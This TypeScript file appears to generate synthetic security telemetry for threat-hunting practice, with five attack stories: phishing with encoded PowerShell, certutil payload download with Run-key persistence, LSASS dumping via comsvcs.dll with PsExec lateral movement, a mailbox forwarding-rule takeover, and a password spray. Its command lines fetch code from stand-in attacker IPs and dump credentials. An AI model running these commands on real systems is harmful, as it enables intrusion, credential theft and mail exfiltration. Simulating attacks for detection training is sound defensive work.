/**
 * Attack stories woven into the sample data, so that real hunting queries find something: a
 * phishing mail that starts encoded PowerShell, a certutil download with Run-key persistence,
 * LSASS dumping and lateral movement, a mailbox takeover with an inbox forwarding rule, and a
 * password spray. Each story writes consistent rows across the tables a hunter would pivot through.
 */
import { TICKS_PER_MINUTE, TICKS_PER_SECOND } from '../executor/time';
import { hashesOf as hashesOfKey, type Program } from './catalog';
import { cloudRow, signInRow } from './cloudTables';
import { mailRows, type MailSet } from './emailTables';
import { accountOf, deviceFields, type Gen, makeProc, parentFields, processFields, program, SYSTEM_ACCOUNT, type Proc, type Rec } from './rows';

export type TableRows = Record<string, Rec[]>;

export const C2_IP = '198.51.100.23';
export const BEACON_IP = '203.0.113.66';
export const EXFIL_ADDRESS = 'exfil@fabrikam-mail.net';
export const STAGER = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/stage2.ps1')";
/** PowerShell's -EncodedCommand is base64 of UTF-16LE. */
export const ENCODED_STAGER = Buffer.from(STAGER, 'utf16le').toString('base64');
export const PAYLOAD: Program = {
  file: 'update.exe', folder: 'C:\\Users\\Public', company: '', product: '', description: '', version: '', commandLines: ['"C:\\Users\\Public\\update.exe"'], parents: ['explorer.exe'], weight: 0,
};
const CERTUTIL: Program = { file: 'certutil.exe', folder: 'C:\\Windows\\System32', company: 'Microsoft Corporation', product: 'Microsoft® Windows® Operating System', description: 'CertUtil.exe', version: '10.0.22621.1', commandLines: [], parents: ['cmd.exe'], weight: 0 };
const RUNDLL32: Program = { file: 'rundll32.exe', folder: 'C:\\Windows\\System32', company: 'Microsoft Corporation', product: 'Microsoft® Windows® Operating System', description: 'Windows host process (Rundll32)', version: '10.0.22621.1', commandLines: [], parents: ['update.exe'], weight: 0 };
const PSEXESVC: Program = { file: 'PSEXESVC.exe', folder: 'C:\\Windows', company: 'Sysinternals - www.sysinternals.com', product: 'Sysinternals PsExec', description: 'PsExec Service', version: '2.43', commandLines: ['C:\\Windows\\PSEXESVC.exe'], parents: ['services.exe'], weight: 0 };

/** Hashes of files the stories plant; FileProfile reports them as rare and unsigned. */
export const MALICIOUS_HASH_KEYS = ['update.exe@payload', 'mail:Payroll_Update.docm'];

function add(out: TableRows, table: string, ...rows: Rec[]): void {
  (out[table] ??= []).push(...rows);
}

function addMail(out: TableRows, m: MailSet): void {
  add(out, 'EmailEvents', ...m.events);
  add(out, 'EmailAttachmentInfo', ...m.attachments);
  add(out, 'EmailUrlInfo', ...m.urls);
  add(out, 'UrlClickEvents', ...m.clicks);
}

function processRow(device: Rec, t: number, child: Proc, parent: Proc, grandparent?: Proc): Rec {
  return {
    Timestamp: t, ...device, ActionType: 'ProcessCreated', ...processFields(child, 'process'), ...processFields(parent, 'initiating'),
    ...(grandparent ? parentFields(grandparent) : {}), CreatedProcessSessionId: 1, IsProcessRemoteSession: false,
  };
}

function alert(g: Gen, out: TableRows, t: number, title: string, category: string, severity: string, technique: string, source: string, evidence: Rec[]): void {
  const alertId = `${source === 'Microsoft Defender for Endpoint' ? 'da' : 'ca'}6385${String(100_000 + (out.AlertInfo?.length ?? 0) * 7919 + g.r.int(0, 99)).padStart(10, '0')}_${g.r.int(100_000_000, 999_999_999)}`;
  const detection = source === 'Microsoft Defender for Endpoint' ? 'EDR' : source === 'Microsoft Defender for Cloud Apps' ? 'Microsoft Defender for Cloud Apps' : 'Microsoft Defender for Office 365';
  add(out, 'AlertInfo', { Timestamp: t, AlertId: alertId, Title: title, Category: category, Severity: severity, ServiceSource: source, DetectionSource: detection, AttackTechniques: JSON.stringify([technique]) });
  add(out, 'AlertEvidence', ...evidence.map((e) => ({
    Timestamp: t, AlertId: alertId, Title: title, Categories: JSON.stringify([category]), AttackTechniques: JSON.stringify([technique]),
    ServiceSource: source, DetectionSource: detection, Severity: severity, EvidenceDirection: '', AdditionalFields: JSON.stringify({ Type: e.EntityType }), ...e,
  })));
}

export function buildStories(g: Gen): TableRows {
  const out: TableRows = {};
  const victim = g.users[1];
  const pc = g.devices.find((d) => !d.isServer && d.os.startsWith('Windows') && d.users.includes(victim)) ?? g.devices[1];
  const dev = deviceFields(pc);
  const acct = accountOf(victim);
  const admin = g.users.find((u) => u.isAdmin) ?? g.users[2];
  const fileServer = g.devices.find((d) => d.shortName === 'srv-file01') ?? g.devices[4];

  // 1. Phishing mail -> macro -> encoded PowerShell (3 days ago)
  const t1 = g.ago(3 * 24 * 60, 600);
  addMail(out, mailRows(g, {
    t: t1, sender: 'payroll@fabrikam-hr.com', senderName: 'Payroll Team', recipient: victim.upn, subject: 'Action required: updated payroll form',
    direction: 'Inbound', attachments: [{ name: 'Payroll_Update.docm', type: 'docm' }], urls: ['https://fabrikam-hr.com/payroll/login?u=' + victim.name],
    clicked: true, senderIp: '198.51.100.25', authFail: true,
  }));
  const outlook = makeProc(g, program('OUTLOOK.EXE'), acct, t1 - 4 * 3600 * TICKS_PER_SECOND, '"OUTLOOK.EXE"');
  const explorer = makeProc(g, program('explorer.exe'), acct, t1 - 8 * 3600 * TICKS_PER_SECOND, 'C:\\Windows\\Explorer.EXE');
  const tWord = t1 + 120 * TICKS_PER_SECOND;
  const word = makeProc(g, program('WINWORD.EXE'), acct, tWord, `"WINWORD.EXE" /n "C:\\Users\\${victim.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q1W2E3R4\\Payroll_Update.docm" /o ""`);
  add(out, 'DeviceFileEvents', {
    Timestamp: t1 + 90 * TICKS_PER_SECOND, ...dev, ActionType: 'FileCreated', FileName: 'Payroll_Update.docm',
    FolderPath: `C:\\Users\\${victim.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q1W2E3R4\\Payroll_Update.docm`,
    ...hashFields('mail:Payroll_Update.docm'), ...processFields(outlook, 'initiating'), ...parentFields(explorer),
  });
  add(out, 'DeviceProcessEvents', processRow(dev, tWord, word, outlook, explorer));
  const tPs = tWord + 15 * TICKS_PER_SECOND;
  const ps = makeProc(g, program('powershell.exe'), acct, tPs, `powershell.exe -NoP -NonI -W Hidden -Enc ${ENCODED_STAGER}`);
  add(out, 'DeviceProcessEvents', processRow(dev, tPs, ps, word, outlook));
  add(out, 'DeviceEvents', { Timestamp: tPs + 2 * TICKS_PER_SECOND, ...dev, ActionType: 'PowerShellCommand', AdditionalFields: JSON.stringify({ Command: STAGER }), ...processFields(ps, 'initiating'), ...parentFields(word) });
  add(out, 'DeviceNetworkEvents', { Timestamp: tPs + 3 * TICKS_PER_SECOND, ...dev, ActionType: 'ConnectionSuccess', RemoteIP: C2_IP, RemotePort: 80, RemoteUrl: `http://${C2_IP}/stage2.ps1`, LocalIP: pc.ip, LocalPort: 51515, Protocol: 'Tcp', LocalIPType: 'Private', RemoteIPType: 'Public', ...processFields(ps, 'initiating'), ...parentFields(word) });
  alert(g, out, tPs + 60 * TICKS_PER_SECOND, 'Suspicious PowerShell command line', 'Execution', 'High', 'PowerShell (T1059.001)', 'Microsoft Defender for Endpoint', [
    { EntityType: 'Machine', EvidenceRole: 'Impacted', ...dev },
    { EntityType: 'User', EvidenceRole: 'Impacted', AccountName: victim.name, AccountDomain: 'contoso', AccountSid: victim.sid, AccountObjectId: victim.objectId, AccountUpn: victim.upn },
    { EntityType: 'Process', EvidenceRole: 'Related', ...dev, FileName: 'powershell.exe', FolderPath: ps.program.folder + '\\powershell.exe', ProcessCommandLine: ps.commandLine, ...hashFields('powershell.exe@' + ps.program.version, true) },
    { EntityType: 'Ip', EvidenceRole: 'Related', RemoteIP: C2_IP },
  ]);

  // 2. certutil download, persistence, beaconing (2 days ago)
  const t2 = g.ago(2 * 24 * 60, 600);
  const cmd = makeProc(g, program('cmd.exe'), acct, t2, `cmd.exe /c certutil.exe -urlcache -split -f http://${C2_IP}/payload.exe C:\\Users\\Public\\update.exe`);
  const certutil = makeProc(g, CERTUTIL, acct, t2 + TICKS_PER_SECOND, `certutil.exe  -urlcache -split -f http://${C2_IP}/payload.exe C:\\Users\\Public\\update.exe`);
  add(out, 'DeviceProcessEvents', processRow(dev, t2, cmd, ps, word), processRow(dev, t2 + TICKS_PER_SECOND, certutil, cmd, ps));
  add(out, 'DeviceNetworkEvents', { Timestamp: t2 + 2 * TICKS_PER_SECOND, ...dev, ActionType: 'ConnectionSuccess', RemoteIP: C2_IP, RemotePort: 80, RemoteUrl: `http://${C2_IP}/payload.exe`, LocalIP: pc.ip, LocalPort: 51620, Protocol: 'Tcp', LocalIPType: 'Private', RemoteIPType: 'Public', ...processFields(certutil, 'initiating'), ...parentFields(cmd) });
  add(out, 'DeviceFileEvents', { Timestamp: t2 + 3 * TICKS_PER_SECOND, ...dev, ActionType: 'FileCreated', FileName: 'update.exe', FolderPath: 'C:\\Users\\Public\\update.exe', ...hashFields('update.exe@payload'), FileOriginUrl: `http://${C2_IP}/payload.exe`, FileOriginIP: C2_IP, ...processFields(certutil, 'initiating'), ...parentFields(cmd) });
  const payload = makeProc(g, PAYLOAD, acct, t2 + 30 * TICKS_PER_SECOND, '"C:\\Users\\Public\\update.exe" /silent', { hashKey: 'update.exe@payload' });
  add(out, 'DeviceProcessEvents', processRow(dev, t2 + 30 * TICKS_PER_SECOND, payload, cmd, ps));
  add(out, 'DeviceRegistryEvents', { Timestamp: t2 + 40 * TICKS_PER_SECOND, ...dev, ActionType: 'RegistryValueSet', RegistryKey: 'HKEY_CURRENT_USER\\' + victim.sid + '\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', RegistryValueType: 'String', RegistryValueName: 'Updater', RegistryValueData: '"C:\\Users\\Public\\update.exe" /silent', ...processFields(payload, 'initiating'), ...parentFields(cmd) });
  add(out, 'DeviceEvents', { Timestamp: t2 + 45 * TICKS_PER_SECOND, ...dev, ActionType: 'ScheduledTaskCreated', AdditionalFields: JSON.stringify({ TaskName: '\\Updater', TaskContent: '<Exec><Command>C:\\Users\\Public\\update.exe</Command></Exec>' }), ...processFields(payload, 'initiating') });
  for (let h = 0; h < 40; h++) {
    const tb = t2 + (h + 1) * 60 * TICKS_PER_MINUTE + g.r.int(-90, 90) * TICKS_PER_SECOND;
    if (tb > g.now) break;
    add(out, 'DeviceNetworkEvents', { Timestamp: tb, ...dev, ActionType: 'ConnectionSuccess', RemoteIP: BEACON_IP, RemotePort: 443, RemoteUrl: 'cdn-update.fabrikam-hr.com', LocalIP: pc.ip, LocalPort: 52000 + h, Protocol: 'Tcp', LocalIPType: 'Private', RemoteIPType: 'Public', ...processFields(payload, 'initiating') });
  }
  alert(g, out, t2 + 60 * TICKS_PER_SECOND, 'Suspicious file download via certutil', 'CommandAndControl', 'Medium', 'Ingress Tool Transfer (T1105)', 'Microsoft Defender for Endpoint', [
    { EntityType: 'Machine', EvidenceRole: 'Impacted', ...dev },
    { EntityType: 'File', EvidenceRole: 'Related', FileName: 'update.exe', FolderPath: 'C:\\Users\\Public\\update.exe', ...hashFields('update.exe@payload', true) },
    { EntityType: 'Url', EvidenceRole: 'Related', RemoteUrl: `http://${C2_IP}/payload.exe` },
  ]);

  // 3. LSASS dump with comsvcs.dll, then lateral movement with an admin account (1 day ago)
  const t3 = g.ago(24 * 60, 600);
  const rundll = makeProc(g, RUNDLL32, acct, t3, 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 668 C:\\Users\\Public\\lsass.dmp full', { integrity: 'High', elevation: 'TokenElevationTypeFull' });
  add(out, 'DeviceProcessEvents', processRow(dev, t3, rundll, payload, cmd));
  add(out, 'DeviceEvents', { Timestamp: t3 + TICKS_PER_SECOND, ...dev, ActionType: 'OpenProcessApiCall', FileName: 'lsass.exe', FolderPath: 'C:\\Windows\\System32\\lsass.exe', AdditionalFields: JSON.stringify({ DesiredAccess: 2097151 }), ...processFields(rundll, 'initiating'), ...parentFields(payload) });
  add(out, 'DeviceFileEvents', { Timestamp: t3 + 2 * TICKS_PER_SECOND, ...dev, ActionType: 'FileCreated', FileName: 'lsass.dmp', FolderPath: 'C:\\Users\\Public\\lsass.dmp', ...hashFields('lsass.dmp@dump'), ...processFields(rundll, 'initiating'), ...parentFields(payload) });
  const adminAcct = accountOf(admin);
  const tLat = t3 + 20 * TICKS_PER_MINUTE;
  add(out, 'DeviceLogonEvents', { Timestamp: tLat, ...deviceFields(fileServer), ActionType: 'LogonSuccess', LogonType: 'Network', AccountDomain: 'contoso', AccountName: admin.name, AccountSid: admin.sid, Protocol: 'NTLM', IsLocalAdmin: true, LogonId: 7_777_777, RemoteDeviceName: pc.shortName, RemoteIP: pc.ip, RemoteIPType: 'Private', RemotePort: 50100 });
  const services = makeProc(g, program('services.exe'), SYSTEM_ACCOUNT, tLat - 20 * 24 * 3600 * TICKS_PER_SECOND);
  const psexesvc = makeProc(g, PSEXESVC, SYSTEM_ACCOUNT, tLat + 5 * TICKS_PER_SECOND);
  const remoteCmd = makeProc(g, program('cmd.exe'), adminAcct, tLat + 8 * TICKS_PER_SECOND, 'cmd.exe /c "net group \\"Domain Admins\\" /domain"');
  add(out, 'DeviceProcessEvents', processRow(deviceFields(fileServer), tLat + 5 * TICKS_PER_SECOND, psexesvc, services), processRow(deviceFields(fileServer), tLat + 8 * TICKS_PER_SECOND, remoteCmd, psexesvc, services));
  alert(g, out, t3 + 30 * TICKS_PER_SECOND, 'Possible credential theft: LSASS memory access', 'CredentialAccess', 'High', 'LSASS Memory (T1003.001)', 'Microsoft Defender for Endpoint', [
    { EntityType: 'Machine', EvidenceRole: 'Impacted', ...dev },
    { EntityType: 'Process', EvidenceRole: 'Related', ...dev, FileName: 'rundll32.exe', ProcessCommandLine: rundll.commandLine },
  ]);

  // 4. Mailbox takeover: sign-ins from abroad, inbox forwarding rule (20 hours ago)
  const victim2 = g.users[0];
  const t4 = g.ago(20 * 60, 300);
  const nl = ['NL', 'North Holland', 'Amsterdam', '52.37', '4.89'] as const;
  for (let k = 0; k < 6; k++) add(out, 'AADSignInEventsBeta', signInRow(g, { t: t4 - (10 - k) * TICKS_PER_MINUTE, user: victim2, errorCode: 50126, ip: '198.51.100.140', location: nl }));
  add(out, 'AADSignInEventsBeta', signInRow(g, { t: t4 - 2 * TICKS_PER_MINUTE, user: victim2, ip: '198.51.100.140', location: nl, risk: 50, app: ['Office 365 Exchange Online', '00000002-0000-0ff1-ce00-000000000000'] }));
  const rule = { Name: 'New-InboxRule', Parameters: [{ Name: 'Name', Value: '..' }, { Name: 'ForwardTo', Value: EXFIL_ADDRESS }, { Name: 'SubjectContainsWords', Value: 'invoice;payment;wire' }, { Name: 'DeleteMessage', Value: 'True' }, { Name: 'StopProcessingRules', Value: 'True' }] };
  add(out, 'CloudAppEvents',
    cloudRow(g, { t: t4, user: victim2, action: 'New-InboxRule', app: ['Microsoft Exchange Online', 20893], ip: '198.51.100.140', country: 'NL', objectName: '..', raw: { Operation: 'New-InboxRule', UserId: victim2.upn, ClientIP: '198.51.100.140:51000', Parameters: rule.Parameters, ResultStatus: 'True' } }),
    cloudRow(g, { t: t4 + 3 * TICKS_PER_MINUTE, user: victim2, action: 'Set-Mailbox', app: ['Microsoft Exchange Online', 20893], ip: '198.51.100.140', country: 'NL', objectName: victim2.upn, raw: { Operation: 'Set-Mailbox', UserId: victim2.upn, Parameters: [{ Name: 'Identity', Value: victim2.upn }, { Name: 'ForwardingSmtpAddress', Value: `smtp:${EXFIL_ADDRESS}` }, { Name: 'DeliverToMailboxAndForward', Value: 'False' }] } }),
  );
  for (let k = 0; k < 3; k++) {
    addMail(out, mailRows(g, { t: t4 + (30 + k * 90) * TICKS_PER_MINUTE, sender: victim2.upn, senderName: victim2.displayName, recipient: EXFIL_ADDRESS, subject: `FW: invoice ${4400 + k}`, direction: 'Outbound' }));
  }
  alert(g, out, t4 + 5 * TICKS_PER_MINUTE, 'Suspicious inbox forwarding rule', 'Exfiltration', 'Medium', 'Email Forwarding Rule (T1114.003)', 'Microsoft Defender for Cloud Apps', [
    { EntityType: 'User', EvidenceRole: 'Impacted', AccountName: victim2.name, AccountDomain: 'contoso.com', AccountObjectId: victim2.objectId, AccountUpn: victim2.upn },
    { EntityType: 'Ip', EvidenceRole: 'Related', RemoteIP: '198.51.100.140' },
    { EntityType: 'Mailbox', EvidenceRole: 'Impacted', AccountUpn: victim2.upn },
  ]);

  // 5. Password spray against AD and Entra ID (5 days ago)
  const t5 = g.ago(5 * 24 * 60, 300);
  g.users.forEach((u, k) => {
    add(out, 'IdentityLogonEvents', {
      Timestamp: t5 + k * 7 * TICKS_PER_SECOND, ActionType: 'LogonFailed', Application: 'Active Directory', LogonType: 'Credentials validation', Protocol: 'Ntlm',
      FailureReason: 'WrongPassword', AccountName: u.name, AccountDomain: 'contoso.com', AccountUpn: u.upn, AccountSid: u.sid, AccountObjectId: u.objectId,
      AccountDisplayName: u.displayName, DeviceName: 'KALI', DeviceType: '', OSPlatform: '', IPAddress: '10.1.2.99', Port: 50000 + k,
      DestinationDeviceName: 'srv-dc01.contoso.com', DestinationIPAddress: '10.1.1.24', DestinationPort: 445, AdditionalFields: { Count: '1', 'Source Account Name': u.name },
    });
    add(out, 'AADSignInEventsBeta', signInRow(g, { t: t5 + k * 11 * TICKS_PER_SECOND, user: u, errorCode: 50126, ip: '198.51.100.200', location: ['US', 'Virginia', 'Ashburn', '39.04', '-77.48'] }));
  });
  alert(g, out, t5 + 10 * TICKS_PER_MINUTE, 'Password spray', 'CredentialAccess', 'Medium', 'Password Spraying (T1110.003)', 'Microsoft Defender for Identity', [
    { EntityType: 'Ip', EvidenceRole: 'Related', RemoteIP: '10.1.2.99' },
    { EntityType: 'Machine', EvidenceRole: 'Impacted', DeviceName: 'srv-dc01.contoso.com' },
  ]);
  return out;
}

function hashFields(key: string, evidence = false): Rec {
  // kept local so stories and FileProfile agree on the planted files' hashes
  const { sha1, sha256, md5, size } = hashesOfKey(key);
  return evidence ? { SHA1: sha1, SHA256: sha256, FileSize: size } : { SHA1: sha1, SHA256: sha256, MD5: md5, FileSize: size };
}
